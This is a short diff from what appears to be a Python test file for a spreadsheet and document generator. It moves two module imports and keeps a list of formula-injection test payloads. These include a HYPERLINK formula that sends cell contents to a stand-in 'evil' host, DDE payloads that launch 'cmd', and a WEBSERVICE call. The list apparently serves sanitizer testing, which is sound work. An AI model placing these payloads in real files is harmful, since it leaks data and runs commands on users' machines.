@@ -19,9 +19,9 @@ from committee_helpers import result, score_of
 from conftest import ROOT, SAMPLES, run_cli
 from rawooxml import docx as raw_docx
 from rawooxml import xlsx as raw_xlsx
-from specgen.cellsafe import md_text, safe_text, sheet_title
+from specgen.writers.cellsafe import md_text, safe_text, sheet_title
 from specgen.errors import InputFileError, ProjectFileError
-from specgen.safety import load_json, read_csv_rows, render_user_template, sniff
+from specgen.files.safety import load_json, read_csv_rows, render_user_template, sniff
 
 SPEC = SAMPLES / "spec_city_genai.xlsx"
 PAYLOADS = ['=HYPERLINK("http://evil/?"&A1,"開く")', "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"A\")", '=WEBSERVICE("http://x")',
